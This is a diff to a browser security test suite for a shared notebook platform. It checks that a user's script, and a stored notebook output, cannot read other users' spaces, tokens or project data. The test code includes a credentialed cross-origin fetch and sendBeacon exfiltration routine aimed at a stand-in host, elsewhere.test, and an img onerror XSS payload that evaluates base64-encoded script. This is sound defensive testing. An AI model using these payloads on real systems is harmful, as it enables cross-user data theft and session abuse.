@@ -13,6 +13,7 @@ const patience = { timeout: 120_000 };
 const workspace = workspaceFolder();
 const { path: folder, atelier, json } = workspace;
 const file = `workspace: shops
+studio: { spaces: shared }
 people: { lead: { role: lead-data-scientist }, july: { role: data-scientist }, john: { role: data-scientist } }
 projects: { sales: { members: [lead, july, john] }, costs: { members: [lead, july] } }
 `;
@@ -35,7 +36,9 @@ function attack(kind: string): string {
   const read = [
     `http://elsewhere.test:${elsewherePort}/data-of-the-project`,
     ...['', 'tokens', 'openapi.json', 'device', 'spaces/july/costs/lab'].map((path) => `${at('')}/${path}`),
-    ...['john--sales.', 'july--costs.', 'lead--sales.'].map((label) => `${at(label)}/api/contents`),
+    ...['john--sales.', 'july--costs.', 'july--sales.', 'lead--sales.', 'shared-costs.'].map(
+      (label) => `${at(label)}/api/contents`,
+    ),
     ...['sales', 'costs'].map((project) => `${at(`tracking-${project}.`)}/ajax-api/2.0/mlflow/experiments/search`),
   ];
   const send = [
@@ -49,8 +52,9 @@ function attack(kind: string): string {
   return `(async () => {
     const said = [];
     const note = (text) => { if (text) said.push(text); };
+    const others = ${JSON.stringify(read)}.filter((one) => new URL(one).host !== location.host);
     for (const mode of ['cors', 'no-cors']) {
-      for (const address of ${JSON.stringify(read)}) {
+      for (const address of others) {
         await fetch(address, { mode, credentials: 'include' }).then((one) => one.text()).then(note, () => undefined);
       }
       for (const [address, body] of ${JSON.stringify(send)}) {
@@ -61,7 +65,7 @@ function attack(kind: string): string {
         navigator.sendBeacon(address, body);
       }
     }
-    for (const address of ${JSON.stringify(read)}) for (const name of ['img', 'script', 'iframe', 'object', 'embed', 'video', 'link']) {
+    for (const address of others) for (const name of ['img', 'script', 'iframe', 'object', 'embed', 'video', 'link']) {
       const one = Object.assign(document.createElement(name), { src: address, data: address, rel: 'stylesheet', href: address });
       document.body.append(one);
       setTimeout(() => one.remove(), 1500);
@@ -88,14 +92,31 @@ function attack(kind: string): string {
   })()`;
 }
 
-/** What july was let do in her browser so far. */
-async function allowed(): Promise<string[]> {
-  const { out } = await atelier('audit', '--person', 'july', '--json');
+/** What somebody was let do in their browser so far. */
+async function allowed(person = 'july'): Promise<string[]> {
+  const { out } = await atelier('audit', '--person', person, '--json');
   const entries = out.split(/\n/).filter((line) => line.startsWith('{'));
   return entries
     .map((line) => JSON.parse(line) as { request: string; allowed: boolean; by: string })
     .filter((one) => one.allowed && one.by.startsWith('session'))
     .map(({ request }) => request);
+}
+
+async function signedIn(person: string): Promise<{ readonly context: BrowserContext; readonly page: Page }> {
+  const own = await browser.newContext();
+  const first = await own.newPage();
+  const { url } = (await json('person', 'invite', person)) as unknown as { url: string };
+  port = new URL(url).port;
+  await first.goto(url);
+  for (const name of ['password', 'again']) await first.fill(`input[name="${name}"]`, 'correct horse battery');
+  await first.getByRole('button', { name: /password/i }).click();
+  await first.getByRole('button', { name: 'Sign out' }).waitFor(patience);
+  return { context: own, page: first };
+}
+
+/** What an output does in a page that shows it. */
+async function ranIn(seen: Page, kind: string): Promise<readonly string[] | undefined> {
+  return ((await seen.evaluate('window.ran')) as Record<string, string[]> | undefined)?.[kind];
 }
 
 describe.skipIf(executablePath === undefined)(
@@ -109,14 +130,7 @@ describe.skipIf(executablePath === undefined)(
       elsewherePort = (internet.address() as AddressInfo).port;
       const names = '--host-resolver-rules=MAP elsewhere.test 127.0.0.1';
       browser = await chromium.launch({ executablePath: executablePath ?? '', args: [...args, names] });
-      context = await browser.newContext();
-      page = await context.newPage();
-      const { url } = (await json('person', 'invite', 'july')) as unknown as { url: string };
-      port = new URL(url).port;
-      await page.goto(url);
-      for (const name of ['password', 'again']) await page.fill(`input[name="${name}"]`, 'correct horse battery');
-      await page.getByRole('button', { name: /password/i }).click();
-      await page.getByRole('button', { name: 'Sign out' }).waitFor(patience);
+      ({ context, page } = await signedIn('july'));
       for (const project of ['costs', 'sales']) {
         await page.goto(`http://localhost:${port}/`);
         await page.getByRole('region', { name: project }).getByRole('button', { name: 'Open my notebooks' }).click();
@@ -160,6 +174,47 @@ describe.skipIf(executablePath === undefined)(
       await lies.evaluate(attack('open'));
       await expect.poll(() => elsewhere.some((asked) => asked.startsWith('POST')), patience).toBe(true);
       await open.close();
+    });
+
+    test('nor does an output that she leaves in the notebook of her team, for her or for john, who reads it', async () => {
+      const script = Buffer.from(attack('output')).toString('base64');
+      const code = `from IPython.display import HTML\nHTML("<img src=x onerror=\\"eval(atob('${script}'))\\">")`;
+      const john = await signedIn('john');
+      for (const { page: at } of [{ page }, john]) {
+        await at.goto(`http://localhost:${port}/`);
+        const sales = at.getByRole('region', { name: 'sales' });
+        await sales.getByRole('button', { name: "Open the team's notebooks" }).click();
+        await at.locator('.jp-LauncherCard').first().waitFor(patience);
+      }
+      const before = new Set([...(await allowed()), ...(await allowed('john'))]);
+      const heard = elsewhere.length;
+      await page.locator('.jp-LauncherCard[data-category="Notebook"]').first().click(patience);
+      await page.getByText('Python 3 (ipykernel) | Idle').first().waitFor(patience);
+      await page.locator('.jp-CodeCell .cm-content').first().click();
+      await page.keyboard.insertText(code);
+      await page.keyboard.press('Shift+Enter');
+      await page
+        .locator('.jp-OutputArea-output img')
+        .first()
+        .waitFor({ ...patience, state: 'attached' });
+      await john.page.goto(`${new URL(john.page.url()).origin}/lab/tree/Untitled.ipynb`);
+      await john.page
+        .locator('.jp-OutputArea-output img')
+        .first()
+        .waitFor({ ...patience, state: 'attached' });
+      for (const { page: at } of [{ page }, john]) {
+        // What comes by the others' hands is cleaned of script; it is run as if it were not.
+        expect(await ranIn(at, 'output')).toBeUndefined();
+        await at.evaluate(attack('output'));
+        await expect.poll(() => ranIn(at, 'output'), patience).toEqual([]);
+        await at.waitForLoadState('networkidle');
+      }
+      const after = [...(await allowed()), ...(await allowed('john'))].filter(
+        (request) => !before.has(request) && !request.includes('shared-sales.localhost'),
+      );
+      expect(after).toEqual([]);
+      expect(elsewhere.slice(heard)).toEqual([]);
+      await john.context.close();
     });
 
     test('has neither signed her out nor made a token, and left her other space and tracking alone', async () => {
